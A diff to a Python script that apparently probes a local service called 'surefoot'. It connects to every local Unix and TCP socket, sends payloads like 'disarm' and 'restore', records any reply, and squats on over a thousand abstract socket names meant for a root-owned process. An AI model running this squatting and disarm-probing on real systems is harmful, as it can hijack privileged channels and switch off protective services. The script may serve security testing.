@@ -30,8 +30,9 @@ SQUATS = 1000
 # What sshd takes is its own affair.
 NOT_OURS = {22}
 SAID = (b"disarm\n", b"yes\n", b"done\n", b"restore\n", b"{}\n", b"\n", b"", b"\xff" * 5000, b'{"record":"finished"}\n')
-# What an answer can be that gives nothing away: none.
 gained = set()
+# What is to stay open.
+kept = []
 
 
 def gain(name, text):
@@ -61,7 +62,6 @@ class Caller:
 
     def __init__(self):
         self.held = []
-        self.own = {os.getpid()}
 
     def addresses(self):
         for line in pathlib.Path("/proc/net/unix").read_text().splitlines()[1:]:
@@ -78,7 +78,7 @@ class Caller:
                     yield family, (host, port)
 
     def call_all(self):
-        """One connection to each: an answer is something that was got, as nobody is to hear one."""
+        """One connection to each."""
         began = time.monotonic()
         for family, address in set(self.addresses()):
             self.call(family, address)
@@ -87,8 +87,7 @@ class Caller:
         time.sleep(max(0, 1 / RATE - (time.monotonic() - began)))
 
     def call(self, family, address):
-        caller = socket.socket(family, random.choice((socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET))
-                               if family == socket.AF_UNIX else socket.SOCK_STREAM)
+        caller = socket.socket(family, socket.SOCK_STREAM)
         caller.setblocking(False)
         try:
             caller.connect(address)
@@ -99,8 +98,9 @@ class Caller:
             caller.close()
 
     def hear(self, caller, address):
+        """That something counts for nothing may be answered; all else is something that was got."""
         answer = caller.recv(1000)
-        if answer:
+        if answer and not answer.startswith(b"no "):
             gain(f"answer from {address}", answer)
 
 
@@ -110,7 +110,6 @@ def connections():
 
 def squats():
     """Names in the kernel that nobody owns, and those of files that are to be root's."""
-    kept = []
     names = ["surefoot-timer", "surefoot-session", "surefoot"]
     names += [f"surefoot-confirm-{number}" for number in range(SQUATS)]
     for name in names:
@@ -118,7 +117,6 @@ def squats():
         squat.bind("\0" + name)
         squat.listen(0)
         kept.append(squat)
-    threading.Thread(target=lambda: time.sleep(1 << 20) or kept, daemon=True).start()
     for_ever(take_places, 0.01)
 
 
